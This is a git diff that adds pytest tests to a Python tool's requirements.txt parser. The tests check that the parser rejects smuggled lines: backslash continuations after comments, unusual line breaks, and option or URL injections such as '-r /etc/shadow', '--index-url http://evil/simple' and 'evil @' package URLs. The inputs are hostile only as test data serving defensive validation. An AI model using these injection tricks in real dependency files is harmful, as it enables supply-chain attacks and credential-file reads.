@@ -9,7 +9,7 @@ import pytest
 
 from par.errors import ParError
 from par.manifest import Manifest
-from par.requirements import effective_requirements, normalize_name, parse_requirements
+from par.requirements import Policy, effective_requirements, normalize_name, parse_requirements
 
 REPO = Path(__file__).resolve().parents[2]
 PLAIN = Manifest(name="a", version="1")
@@ -157,3 +157,92 @@ def test_symlinked_file_is_refused(tmp_path: Path) -> None:
     with pytest.raises(ParError) as info:
         effective_requirements(tmp_path, PLAIN, False)
     assert info.value.code == "requirements_invalid"
+
+
+# -- lines split as pip splits them (the `\` bypass) ---------------------------------------
+
+
+@pytest.mark.parametrize("hidden", ["-r /etc/shadow", "--index-url http://evil/simple",
+                                    "-e /local/path"])
+def test_a_comment_ending_in_a_backslash_is_refused(tmp_path: Path, hidden: str) -> None:
+    """pip does not continue a comment line; PAR once joined it with the next one, so
+    the next line reached pip unchecked."""
+    root = root_with(tmp_path, f"requests\n# pinned \\\n{hidden}\n")
+    with pytest.raises(ParError) as info:
+        effective_requirements(root, PLAIN, False)
+    assert (info.value.code, info.value.field) == ("requirements_continuation",
+                                                   "requirements.txt")
+    assert "requirements.txt line 2" in info.value.message
+
+
+def test_a_trailing_comment_ending_in_a_backslash_is_refused() -> None:
+    with pytest.raises(ParError) as info:
+        parse_requirements("requests  # http \\\n-r /etc/shadow\n")
+    assert info.value.code == "requirements_continuation"
+
+
+def test_continuations_without_comments_join_as_pip_joins_them() -> None:
+    lines, names = parse_requirements("requests==2.31.0 \\\n  --hash=sha256:abc \\\n"
+                                      "  --hash=sha256:def\n")
+    assert lines == ("requests==2.31.0   --hash=sha256:abc   --hash=sha256:def",)
+    assert names == {"requests"}
+
+
+def test_a_continued_line_cannot_smuggle_an_option() -> None:
+    """What a continuation joins is checked whole: only --hash may follow a requirement."""
+    with pytest.raises(ParError) as info:
+        parse_requirements("requests \\\n  -r /etc/shadow\n")
+    assert info.value.code == "requirements_option" and "-r" in info.value.message
+
+
+@pytest.mark.parametrize("sep", ["\r", "\x0b", "\x0c", "\x1c", "\x85", "\u2028"])
+def test_line_breaks_pip_and_uv_read_differently_are_refused(sep: str) -> None:
+    with pytest.raises(ParError) as info:
+        parse_requirements(f"requests{sep}-r /etc/shadow\n")
+    assert info.value.code == "requirements_invalid" and "line 1" in info.value.message
+
+
+def test_crlf_is_fine() -> None:
+    assert parse_requirements("requests\r\nPyYAML\r\n")[1] == {"requests", "pyyaml"}
+
+
+def test_whitespace_after_a_continuation_backslash_is_refused() -> None:
+    with pytest.raises(ParError) as info:
+        parse_requirements("requests \\ \n-r /etc/shadow\n")
+    assert info.value.code == "requirements_continuation"
+
+
+# -- policies: prewarm and installer.only_binary -----------------------------------------------
+
+
+PREWARM = Policy(label="requirements", allow_urls=False)
+
+
+@pytest.mark.parametrize(("text", "code"), [
+    ("-r /etc/shadow\n", "requirements_option"),
+    ("-e .\n", "requirements_editable"),
+    ("evil @ http://127.0.0.1:9/evil-1.0.tar.gz\n", "requirements_url"),
+    ("https://example.com/x-1.0-py3-none-any.whl\n", "requirements_url"),
+])
+def test_prewarm_policy_refuses_naming_its_field(text: str, code: str) -> None:
+    with pytest.raises(ParError) as info:
+        parse_requirements(text, PREWARM)
+    assert (info.value.code, info.value.field) == (code, "requirements")
+    assert info.value.message.startswith("requirements line 1:")
+
+
+@pytest.mark.parametrize("line", [
+    "evil @ https://example.com/evil-1.0.tar.gz",
+    "evil @ git+https://example.com/evil.git",
+    "--no-binary :all:",
+])
+def test_only_binary_refuses_source_builds(line: str) -> None:
+    with pytest.raises(ParError) as info:
+        parse_requirements(f"{line}\n", Policy(only_binary=True))
+    assert info.value.code == "requirements_sdist" and "only_binary" in info.value.message
+    parse_requirements(f"{line}\n", Policy())  # allowed otherwise
+
+
+def test_only_binary_allows_wheel_urls() -> None:
+    line = "ok @ https://example.com/ok-1.0-py3-none-any.whl#sha256=abc\n"
+    assert parse_requirements(line, Policy(only_binary=True))[1] == {"ok"}
